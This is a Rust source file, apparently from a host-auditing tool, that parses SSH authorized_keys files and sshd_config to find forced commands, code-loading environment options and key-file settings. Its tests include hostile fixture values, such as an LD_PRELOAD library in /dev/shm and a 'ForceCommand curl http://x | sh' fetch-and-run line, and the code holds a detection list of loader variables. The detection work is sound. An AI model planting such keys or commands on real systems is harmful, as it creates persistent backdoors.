//! Keys that may log in over ssh, what is run when they do, and settings of sshd that name other files of keys or programs
//! (`sshd(8)`, AUTHORIZED_KEYS FILE FORMAT; `sshd_config(5)`).
//!
//! ```text
//! ssh-ed25519 AAAA… mia@laptop
//! command="/opt/backup",no-pty,environment="LD_PRELOAD=/x.so" ssh-rsa AAAA… backup
//! AuthorizedKeysCommand /usr/bin/x %u                                       /etc/ssh/sshd_config
//! AuthorizedKeysFile .ssh/authorized_keys /etc/keys/%u
//! ```

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD};
use sha2::{Digest, Sha256};

use super::command::{self, Told};
use super::named::{self, Seen};
use super::{CAP, Entry, content, is_void, place_of, push};
use crate::extract::Extractor;
use crate::extract::format::shell_words::Word;
use crate::extract::format::unit_lines;
use crate::extract::input::{Content, Input};
use crate::model::autostart::{AutostartKind, Role};
use crate::model::facts::Harvest;
use crate::model::interest::{Ask, Interest};
use crate::model::path::TargetPath;

/// The row.
pub const EXTRACTOR: Extractor = Extractor {
    interest: Interest {
        id: "autostart-ssh",
        sentence: "Keys that may log in over ssh, what is run when they do, and where sshd looks for keys.",
        ask: Ask::Starts("ssh"),
    },
    cap: CAP,
    read,
};

/// What keys may do that is of use to others than their owner, as options name it.
const OPENING: &[&[u8]] = &[b"cert-authority", b"tunnel", b"permitopen", b"permitlisten", b"principals", b"user-rc"];

fn read(input: &Input<'_>) -> Harvest {
    let mut harvest = Harvest::default();
    let Some(place) = place_of(input, "ssh") else { return harvest };
    if is_void(input) {
        return harvest;
    }
    let Some(content) = content(input, &mut harvest) else { return harvest };
    if place.rule.kind == AutostartKind::AuthorizedKey {
        // In a folder of the system the file is called as the account is.
        let is_own = input.target.home_of(&input.candidate.path).is_some();
        let account = (!is_own).then(|| input.candidate.name.to_vec());
        keys(input, &content, account.as_deref(), &mut harvest);
    } else {
        settings(input, &content, &mut Seen::default(), &mut harvest);
    }
    harvest
}

fn keys(input: &Input<'_>, content: &Content, account: Option<&[u8]>, harvest: &mut Harvest) {
    for key in parse_keys(&content.bytes) {
        let mut trigger = b"login over ssh".to_vec();
        let opening = key.options.iter().filter(|(name, _)| OPENING.contains(&name.as_slice()));
        opening.for_each(|(name, value)| {
            trigger.extend([b", ".as_slice(), name].concat());
            trigger.extend(value.iter().flat_map(|value| [b"=".as_slice(), value].concat()));
        });
        let mut told = key.value(b"command").map(command::of_script).unwrap_or_default();
        for (variable, value) in key.options.iter().filter_map(environment) {
            let role = if variable.contains(&b'_') { Role::Library } else { Role::Sourced };
            let parts = value.split(|byte| matches!(byte, b':' | b' ')).filter(|part| !part.is_empty());
            told.programs.extend(parts.map(|part| (part.to_vec(), role, key.line)));
            trigger.extend([b", ".as_slice(), variable, b"=", value].concat());
        }
        let entry = Entry {
            line: Some(key.line),
            told: told.at(key.line),
            command: key.value(b"command").unwrap_or_default().to_vec(),
            trigger,
            runs_as: account.map(<[u8]>::to_vec),
            is_whole_file: false,
            ..Entry::new(AutostartKind::AuthorizedKey, &key.name())
        };
        push(input, content, entry, harvest);
    }
}

/// `environment="LD_PRELOAD=/x.so"`, of variables that have code loaded.
fn environment((name, value): &(Vec<u8>, Option<Vec<u8>>)) -> Option<(&[u8], &[u8])> {
    let value = value.as_deref().filter(|_| name == b"environment")?;
    let (variable, value) = value.split_at(value.iter().position(|byte| *byte == b'=')?);
    let loads = matches!(variable, b"LD_PRELOAD" | b"LD_AUDIT" | b"LD_LIBRARY_PATH" | b"BASH_ENV" | b"ENV");
    let is_one = loads || variable.starts_with(b"PYTHON") || variable.starts_with(b"DYLD_");
    is_one.then_some((variable, value.get(1..).unwrap_or_default()))
}

/// A line that holds a key.
#[derive(PartialEq, Eq, Debug)]
pub struct Key {
    /// Counted from 1.
    pub line: u32,
    /// Options and their values, quotes removed.
    pub options: Vec<(Vec<u8>, Option<Vec<u8>>)>,
    /// `ssh-ed25519` and its like.
    pub algorithm: Vec<u8>,
    /// The public key in base64, as written.
    pub blob: Vec<u8>,
    /// What stands behind.
    pub comment: Vec<u8>,
}

impl Key {
    fn value(&self, option: &[u8]) -> Option<&[u8]> {
        self.options.iter().find(|(name, _)| name == option).and_then(|(_, value)| value.as_deref())
    }

    /// Its comment, its kind, and its fingerprint as `ssh-keygen -l` shows it, where it has one.
    fn name(&self) -> Vec<u8> {
        let print = STANDARD.decode(&self.blob).map(|blob| STANDARD_NO_PAD.encode(Sha256::digest(&blob)));
        let print = print.map_or_else(|_| String::new(), |print| format!("SHA256:{print}"));
        let parts = [self.comment.as_slice(), &self.algorithm, print.as_bytes()];
        let parts: Vec<&[u8]> = parts.into_iter().filter(|part| !part.is_empty()).collect();
        parts.join(&b' ')
    }
}

/// The keys of a file.
#[must_use]
pub fn parse_keys(bytes: &[u8]) -> Vec<Key> {
    (1..).zip(bytes.split(|byte| *byte == b'\n')).filter_map(|(line, text)| key(text.trim_ascii(), line)).collect()
}

fn key(text: &[u8], line: u32) -> Option<Key> {
    if text.is_empty() || text.starts_with(b"#") {
        return None;
    }
    let (first, rest) = word(text);
    let (options, algorithm, rest) = if is_algorithm(first) {
        (Vec::new(), first, rest)
    } else {
        let (algorithm, behind) = word(rest);
        (options(first), algorithm, behind)
    };
    let (blob, comment) = word(rest);
    let is_key = is_algorithm(algorithm) && !blob.is_empty();
    is_key.then(|| Key { line, options, algorithm: algorithm.to_vec(), blob: blob.to_vec(), comment: comment.to_vec() })
}

fn is_algorithm(word: &[u8]) -> bool {
    ["ssh-", "ecdsa-", "sk-", "rsa-", "webauthn-"].iter().any(|start| word.starts_with(start.as_bytes()))
        && word.iter().all(|byte| byte.is_ascii_alphanumeric() || b"-@._".contains(byte))
}

/// The first word, in which quotes keep blanks, and what is behind it.
fn word(text: &[u8]) -> (&[u8], &[u8]) {
    let mut is_quoted = false;
    let mut before = 0;
    let mut end = text.len();
    for (at, byte) in text.iter().enumerate() {
        match byte {
            b'"' if before != b'\\' => is_quoted = !is_quoted,
            byte if byte.is_ascii_whitespace() && !is_quoted => {
                end = at;
                break;
            }
            _ => {}
        }
        before = *byte;
    }
    let (word, rest) = text.split_at(end);
    (word, rest.trim_ascii_start())
}

/// `name`, `name="value"`, one behind the other.
fn options(text: &[u8]) -> Vec<(Vec<u8>, Option<Vec<u8>>)> {
    let mut out = Vec::new();
    let (mut part, mut is_quoted, mut rest) = (Vec::new(), false, text);
    while let Some((first, tail)) = rest.split_first() {
        rest = tail;
        match (first, is_quoted) {
            (b'\\', true) if tail.starts_with(b"\"") => {
                part.push(b'"');
                rest = tail.get(1..).unwrap_or_default();
            }
            (b'"', _) => is_quoted = !is_quoted,
            (b',', false) => out.push(option(&std::mem::take(&mut part))),
            (byte, _) => part.push(*byte),
        }
    }
    out.push(option(&part));
    out.retain(|(name, _)| !name.is_empty());
    out
}

fn option(text: &[u8]) -> (Vec<u8>, Option<Vec<u8>>) {
    let at = text.iter().position(|byte| *byte == b'=');
    let name = text.get(..at.unwrap_or(text.len())).unwrap_or_default().to_ascii_lowercase();
    (name, at.and_then(|at| text.get(at + 1..)).map(<[u8]>::to_vec))
}

fn settings(input: &Input<'_>, content: &Content, seen: &mut Seen, harvest: &mut Harvest) {
    let (mut files, mut included) = (Vec::new(), Vec::new());
    for (line, key, value) in parse_settings(&content.bytes) {
        let is_program = matches!(
            key.as_slice(),
            b"authorizedkeyscommand" | b"authorizedprincipalscommand" | b"forcecommand" | b"subsystem"
        );
        let from = usize::from(key == b"subsystem");
        // What the first word says: `internal-sftp -d /none` is sshd's own, `/x none` is not.
        let is_own = value.get(from).is_none_or(|word| matches!(word.as_slice(), b"internal-sftp" | b"none"));
        if key == b"authorizedkeysfile" {
            files.extend(value);
        } else if key == b"include" {
            included.extend(value);
        } else if is_program && !is_own {
            let words = value.iter().skip(from).map(|text| Word { text: text.clone(), line });
            let told: Told = match key.as_slice() {
                b"forcecommand" => command::of_script(&value.join(&b' ')),
                _ => command::of_words(&words.collect::<Vec<_>>()),
            };
            let entry = Entry {
                line: Some(line),
                told: told.at(line),
                command: value.join(&b' '),
                trigger: b"login over ssh".to_vec(),
                is_whole_file: false,
                ..Entry::new(AutostartKind::SshRc, &key)
            };
            push(input, content, entry, harvest);
        }
    }
    files.sort();
    files.dedup();
    follow(input, &files, harvest);
    for written in included {
        let whole = if written.starts_with(b"/") { written } else { [b"/etc/ssh/".as_slice(), &written].concat() };
        named::read(input, "ssh", &input.target.root.target_path(&whole), seen, harvest, &settings);
    }
}

/// The settings of a file: line, name in lower case, words.
#[must_use]
pub fn parse_settings(bytes: &[u8]) -> Vec<(u32, Vec<u8>, Vec<Vec<u8>>)> {
    let parse = |(line, text): (u32, &[u8])| {
        let text = text.trim_ascii();
        let end = text.iter().position(|byte| byte.is_ascii_whitespace() || *byte == b'=')?;
        let (key, rest) = text.split_at(end);
        let rest = rest.trim_ascii_start();
        let rest = rest.strip_prefix(b"=").unwrap_or(rest);
        (!text.starts_with(b"#")).then(|| (line, key.to_ascii_lowercase(), unit_lines::words(rest)))
    };
    (1..).zip(bytes.split(|byte| *byte == b'\n')).filter_map(parse).collect()
}

/// Reads the files of keys that a setting names for every account, unless they lie where they are read anyway.
fn follow(input: &Input<'_>, files: &[Vec<u8>], harvest: &mut Harvest) {
    let mut seen = Seen::default();
    for written in files.iter().filter(|written| !matches!(written.as_slice(), b"none")) {
        for account in &input.target.accounts {
            let path = expanded(written, account.name.as_bytes(), &account.home);
            let path = input.target.root.target_path(&path);
            let name = written.windows(2).any(|part| part == b"%u").then_some(account.name.as_bytes());
            named::read(input, "ssh", &path, &mut seen, harvest, &|other, content, _, harvest| {
                keys(other, content, name, harvest);
            });
        }
    }
}

fn expanded(written: &[u8], name: &[u8], home: &TargetPath) -> Vec<u8> {
    let mut out = if written.starts_with(b"/") || written.starts_with(b"%h") {
        Vec::new()
    } else {
        [home.as_bytes(), b"/"].concat()
    };
    let mut rest = written;
    while let Some((first, tail)) = rest.split_first() {
        let filled: Option<&[u8]> = match (first, tail.first()) {
            (b'%', Some(b'u')) => Some(name),
            (b'%', Some(b'h')) => Some(home.as_bytes()),
            (b'%', Some(b'%')) => Some(b"%"),
            _ => None,
        };
        out.extend_from_slice(filled.unwrap_or(&[*first]));
        rest = if filled.is_some() { tail.get(1..).unwrap_or_default() } else { tail };
    }
    out
}

#[cfg(test)]
mod tests {
    #![allow(clippy::disallowed_methods, reason = "plants a link")]

    use proptest::prelude::*;

    use super::*;
    use crate::extract::autostart::planted::Tree;
    use crate::model::coverage::GapReason;
    use crate::model::host::Platform;

    // The key is that of RFC 8032's first test vector; the fingerprint is what `ssh-keygen -l` says of it.
    const KEY: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAINdamAGCsQq31Uv+08lkBzoO4XLz2qYjJa8CGmj3B1Ea";

    #[test]
    fn keys_have_names_commands_and_options() {
        let text = format!(
            "# c\n{KEY} mia@laptop\n\ncommand=\"/tmp/x \\\"a b\\\"\",no-pty,permitopen=\"h:1\" {KEY}\n\
             environment=\"LD_PRELOAD=/dev/shm/x.so\" {KEY} a b\nnonsense here\nssh-rsa !!! x\n"
        );
        let path = "/home/mia/.ssh/authorized_keys";
        let told = Tree::with(&[(path, text.as_bytes())]).told(&EXTRACTOR, Platform::Linux, path);
        let print = "ssh-ed25519 SHA256:bbXpuKG6zhzdmnxq256TlqzFBzRl2f6OOg722cYNbU8";
        assert_eq!(
            told,
            [
                format!("AuthorizedKey mia@laptop {print} | when login over ssh"),
                format!(
                    "AuthorizedKey {print} | runs /tmp/x \"a b\" | when login over ssh, permitopen=h:1 \
                     | Program /tmp/x Temporary"
                ),
                format!(
                    "AuthorizedKey a b {print} | when login over ssh, LD_PRELOAD=/dev/shm/x.so \
                     | Library /dev/shm/x.so Temporary"
                ),
                "AuthorizedKey x ssh-rsa | when login over ssh".to_owned(),
            ]
        );
    }

    #[test]
    fn settings_name_files_and_programs() {
        let text = "Port 22\nAuthorizedKeysCommand=/opt/keys %u\nauthorizedkeysfile .ssh/authorized_keys /srv/keys/%u\n\
                    Subsystem sftp internal-sftp\nSubsystem x /usr/lib/x\nMatch User b\n  ForceCommand curl http://x | sh\n";
        let path = "/etc/ssh/sshd_config";
        let own = format!("{KEY} own\n");
        let other = format!("{KEY} other\n");
        let tree = Tree::with(&[
            (path, text.as_bytes()),
            ("/home/mia/.ssh/authorized_keys", own.as_bytes()),
            ("/srv/keys/mia", other.as_bytes()),
        ]);
        let told = tree.told(&EXTRACTOR, Platform::Linux, path);
        assert_eq!(told.len(), 4, "{told:?}");
        assert_eq!(
            told[0],
            "SshRc authorizedkeyscommand | runs /opt/keys %u | when login over ssh | Program /opt/keys"
        );
        assert_eq!(told[1], "SshRc subsystem | runs x /usr/lib/x | when login over ssh | Program /usr/lib/x");
        assert!(told[2].ends_with("| FetchesAndRuns"), "{}", told[2]);
        assert!(told[3].starts_with("AuthorizedKey other") && told[3].contains("| as mia"), "{}", told[3]);
    }

    #[test]
    fn the_first_word_says_whether_it_is_of_sshd() {
        let text = "ForceCommand /opt/x none\nForceCommand internal-sftp -d /none\nAuthorizedKeysCommand none\n\
                    Subsystem sftp internal-sftp -l INFO\nSubsystem none /opt/y internal-sftp\n";
        let path = "/etc/ssh/sshd_config";
        let told = Tree::with(&[(path, text.as_bytes())]).told(&EXTRACTOR, Platform::Linux, path);
        assert!(told.len() == 2 && told[0].contains("/opt/x none") && told[1].contains("/opt/y"), "{told:?}");
    }

    #[test]
    fn what_sshd_includes_is_read() {
        let path = "/etc/ssh/sshd_config";
        let tree = Tree::with(&[
            (path, b"Include /opt/s/*.conf more sshd_config.d/*.conf\nInclude /opt/*/x.conf\nInclude /opt/none/*\n"),
            ("/opt/s/a.conf", b"ForceCommand /opt/x\nInclude /opt/s/a.conf\n"),
            ("/opt/s/a.txt", b"ForceCommand /opt/no\n"),
            ("/etc/ssh/more", b"AuthorizedKeysCommand /opt/y\n"),
            ("/etc/ssh/sshd_config.d/b.conf", b"ForceCommand /opt/read-where-it-lies\n"),
        ]);
        let told = tree.told(&EXTRACTOR, Platform::Linux, path);
        assert!(told.len() == 2 && told[0].contains("/opt/x") && told[1].contains("/opt/y"), "{told:?}");
        let gaps = tree.read(&EXTRACTOR, Platform::Linux, path).gaps;
        assert!(gaps.len() == 1 && gaps[0].material && gaps[0].reason == GapReason::Unchecked, "{gaps:?}");
    }

    #[test]
    fn what_cannot_be_looked_at_is_a_gap() {
        let path = "/etc/ssh/sshd_config";
        let gaps = |text: &str| {
            let tree = Tree::with(&[(path, text.as_bytes()), ("/srv/keys", b"")]);
            std::os::unix::fs::symlink("loop", tree.at("/srv/loop")).unwrap();
            tree.read(&EXTRACTOR, Platform::Linux, path).gaps.len()
        };
        assert_eq!(gaps("AuthorizedKeysFile /srv/gone/%u\n"), 0);
        assert_eq!(gaps("AuthorizedKeysFile /srv/keys/%u\n"), 0);
        assert!(gaps("AuthorizedKeysFile /srv/loop/%u\n") > 0);
    }

    proptest! {
        #[test]
        fn any_bytes_are_read(bytes in prop::collection::vec(any::<u8>(), 0..300)) {
            for key in parse_keys(&[b"command=\"x ".as_slice(), &bytes, b"\" ssh-rsa AAAA x"].concat()) {
                prop_assert!(!key.name().is_empty());
            }
            prop_assert!(parse_keys(&bytes).len() + parse_settings(&bytes).len() <= 2 * bytes.len());
        }
    }
}
